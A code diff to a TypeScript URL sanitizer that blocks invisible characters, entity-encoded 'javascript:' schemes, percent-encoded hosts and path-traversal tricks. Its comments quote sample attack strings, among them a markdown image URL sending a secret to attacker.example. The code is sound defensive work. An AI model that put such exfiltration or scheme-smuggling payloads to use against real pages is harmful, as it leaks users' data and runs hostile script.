@@ -1,4 +1,8 @@
+import { hasInvisibleCharacters } from './invisible.js';
 import { isSafeInlineType, normalizeMediaType } from './media-type.js';
+import { isPrivateHost } from './private-host.js';
+
+export { isPrivateHost };
 
 /*
  * One policy for every URL that content can put on the page: links, images, audio and video
@@ -8,6 +12,9 @@ import { isSafeInlineType, normalizeMediaType } from './media-type.js';
  *   - may this URL be used at all?            (scheme, userinfo, obfuscation, data: types)
  *   - may the page fetch it before the user acts? (same origin or the app's allow-list only —
  *     the defence against `![](https://attacker.example/?q=<secret>)` exfiltration)
+ *
+ * A document preview is a frame that runs what the server sends, so for `document` only the
+ * allow-list counts: a same-origin URL chosen by content (`/settings`) waits for a click too.
  */
 
 /** Where a URL is about to be used. */
@@ -47,6 +54,7 @@ const CONTROL_OR_INVISIBLE =
   /[\u0000-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/;
 /* eslint-enable no-control-regex */
 const SCHEME = /^([a-z][a-z0-9+.-]*):/i;
+const AUTHORITY = /^[a-z][a-z0-9+.-]*:\/*([^/?#]*)/i;
 
 interface ParsedUrl {
   href: string;
@@ -78,8 +86,10 @@ export function checkUrl(raw: string, use: UrlUse, options: UrlPolicyOptions = {
   if (typeof raw !== 'string') return reject('not a string');
   const url = raw.trim();
   if (url === '') return reject('empty');
-  if (CONTROL_OR_INVISIBLE.test(url)) return reject('contains control or invisible characters');
+  if (CONTROL_OR_INVISIBLE.test(url) || hasInvisibleCharacters(url))
+    return reject('contains control or invisible characters');
   if (url.includes('\\')) return reject('contains a backslash');
+  if (hidesScheme(url)) return reject('character references hide a scheme');
 
   const scheme = SCHEME.exec(url)?.[1]?.toLowerCase();
   if (scheme === undefined) return checkRelative(url, use, options);
@@ -91,6 +101,7 @@ export function checkUrl(raw: string, use: UrlUse, options: UrlPolicyOptions = {
       : reject('mailto: is only for links');
   }
 
+  if (hidesHost(AUTHORITY.exec(url)?.[1] ?? '')) return reject('percent-encoding hides the host');
   const parsed = parse(url);
   if (!parsed || !FETCH_SCHEMES.has(parsed.protocol)) return reject('not a valid URL');
   if (parsed.username !== '' || parsed.password !== '')
@@ -99,7 +110,7 @@ export function checkUrl(raw: string, use: UrlUse, options: UrlPolicyOptions = {
     allowed: true,
     href: parsed.href,
     host: parsed.host,
-    autoLoad: use !== 'link' && use !== 'download' && mayFetchEarly(parsed, options),
+    autoLoad: use !== 'link' && use !== 'download' && mayFetchEarly(parsed, use, options),
   };
 }
 
@@ -111,7 +122,57 @@ function checkRelative(url: string, use: UrlUse, options: UrlPolicyOptions): Url
     return reject('unrecognised scheme');
   // Protocol-relative URLs point at another host.
   if (url.startsWith('//')) return checkUrl(`https:${url}`, use, options);
-  return { allowed: true, href: url, host: null, autoLoad: use !== 'link' && use !== 'download' };
+  if (use === 'document') {
+    // Same-origin, but a preview still needs the allow-list: resolve it as the frame would.
+    const resolved = options.origin ? parse(url, options.origin) : null;
+    const autoLoad = resolved !== null && mayFetchEarly(resolved, use, options);
+    return { allowed: true, href: url, host: null, autoLoad };
+  }
+  return { allowed: true, href: url, host: null, autoLoad: loadsEarly(use) };
+}
+
+/**
+ * Markdown percent-encodes a non-ASCII host (`münchen.de`), which the URL parser decodes and
+ * turns into punycode: that is fine. Encoded ASCII (`evil%2eexample`) or an encoded invisible
+ * character (`bank.example%E2%80%8B.evil.test` is `bank.example.evil.test`) is not.
+ */
+function hidesHost(authority: string): boolean {
+  if (!authority.includes('%')) return false;
+  if (/%[0-7][0-9a-f]/i.test(authority)) return true;
+  let decoded: string;
+  try {
+    decoded = decodeURIComponent(authority);
+  } catch {
+    return true;
+  }
+  return CONTROL_OR_INVISIBLE.test(decoded) || hasInvisibleCharacters(decoded);
+}
+
+/** Uses that fetch by themselves when same-origin; links and downloads wait for a click. */
+function loadsEarly(use: UrlUse): boolean {
+  return use === 'image' || use === 'audio' || use === 'video';
+}
+
+/*
+ * `&#106;avascript:` is a harmless relative URL to the browser when it is used as the attribute
+ * value, but not to anything that decodes HTML on the way (a template, a copy into markup). A URL
+ * whose character references, once decoded, spell a scheme it did not have is refused.
+ */
+const REFERENCE = /&(?:#(\d{1,7});?|#x([0-9a-f]{1,6});?|(colon|tab|newline|nbsp);)/gi;
+const NAMED: Record<string, string> = { colon: ':', tab: '\t', newline: '\n', nbsp: '\u00a0' };
+
+function hidesScheme(url: string): boolean {
+  if (!url.includes('&')) return false;
+  const decoded = url.replace(REFERENCE, (match, decimal?: string, hex?: string, name?: string) => {
+    if (name !== undefined) return NAMED[name.toLowerCase()] ?? match;
+    const code = decimal !== undefined ? Number(decimal) : parseInt(hex ?? '', 16);
+    return code > 0x10ffff ? match : String.fromCodePoint(code);
+  });
+  if (decoded === url) return false;
+  // eslint-disable-next-line no-control-regex -- browsers drop these before reading a scheme
+  const bare = decoded.replace(/[\u0000-\u0020\u007f-\u00a0]/g, '');
+  const scheme = SCHEME.exec(bare)?.[1]?.toLowerCase();
+  return scheme !== undefined && scheme !== SCHEME.exec(url)?.[1]?.toLowerCase();
 }
 
 function checkDataUrl(url: string, use: UrlUse, options: UrlPolicyOptions): UrlDecision {
@@ -127,48 +188,33 @@ function checkDataUrl(url: string, use: UrlUse, options: UrlPolicyOptions): UrlD
   return { allowed: true, href: url, host: null, autoLoad: true };
 }
 
-/** Same origin, or under an allow-listed prefix; never a private host reached by allow-list. */
-function mayFetchEarly(url: ParsedUrl, options: UrlPolicyOptions): boolean {
-  if (options.origin && url.origin === options.origin) return true;
-  // Encoded dot segments could climb out of an allow-listed path once the server decodes them.
-  if (/%2e|%2f|%5c/i.test(url.pathname)) return false;
-  if (isPrivateHost(url.hostname)) return false;
-  return (options.mediaAllowlist ?? []).some((prefix) => {
-    const allowed = parse(prefix);
-    if (
-      !allowed ||
-      !FETCH_SCHEMES.has(allowed.protocol) ||
-      allowed.username !== '' ||
-      allowed.password !== ''
-    )
-      return false;
-    return allowed.origin === url.origin && url.pathname.startsWith(allowed.pathname);
-  });
+/** Same origin (not for documents), or under an allow-listed prefix; never another private host. */
+function mayFetchEarly(url: ParsedUrl, use: UrlUse, options: UrlPolicyOptions): boolean {
+  const sameOrigin = Boolean(options.origin) && url.origin === options.origin;
+  if (sameOrigin && loadsEarly(use)) return true;
+  // Encoded dot segments, slashes and backslashes (also double-encoded, `%252e`) and `;` path
+  // parameters (`/images/..;/secret` on Tomcat) could climb out of an allow-listed path once the
+  // server decodes them.
+  if (/%2e|%2f|%5c|%25|;/i.test(url.pathname)) return false;
+  // The page's own host may be `localhost` in development; any other private host never loads.
+  if (!sameOrigin && isPrivateHost(url.hostname)) return false;
+  return (options.mediaAllowlist ?? []).some((prefix) => matchesPrefix(url, prefix));
 }
 
-/** Loopback, private, link-local and unqualified hosts. */
-export function isPrivateHost(hostname: string): boolean {
-  const host = hostname.replace(/^\[|\]$/g, '').toLowerCase();
+/** Origin equality plus a path prefix that ends at a segment boundary (`/images` ≠ `/images-x`). */
+function matchesPrefix(url: ParsedUrl, prefix: string): boolean {
+  const allowed = parse(prefix);
   if (
-    host === 'localhost' ||
-    host.endsWith('.localhost') ||
-    host.endsWith('.local') ||
-    (!host.includes('.') && !host.includes(':'))
+    !allowed ||
+    !FETCH_SCHEMES.has(allowed.protocol) ||
+    allowed.username !== '' ||
+    allowed.password !== '' ||
+    allowed.origin !== url.origin
   )
-    return true;
-  if (host === '::1' || host.startsWith('fe80:') || host.startsWith('fc') || host.startsWith('fd'))
-    return host.includes(':');
-  const octets = host.split('.').map(Number);
-  if (octets.length !== 4 || octets.some((part) => !Number.isInteger(part))) return false;
-  const [a = 0, b = 0] = octets;
-  return (
-    a === 127 ||
-    a === 10 ||
-    a === 0 ||
-    (a === 169 && b === 254) ||
-    (a === 172 && b >= 16 && b <= 31) ||
-    (a === 192 && b === 168)
-  );
+    return false;
+  const path = allowed.pathname;
+  if (path.endsWith('/')) return url.pathname.startsWith(path);
+  return url.pathname === path || url.pathname.startsWith(`${path}/`);
 }
 
 /**
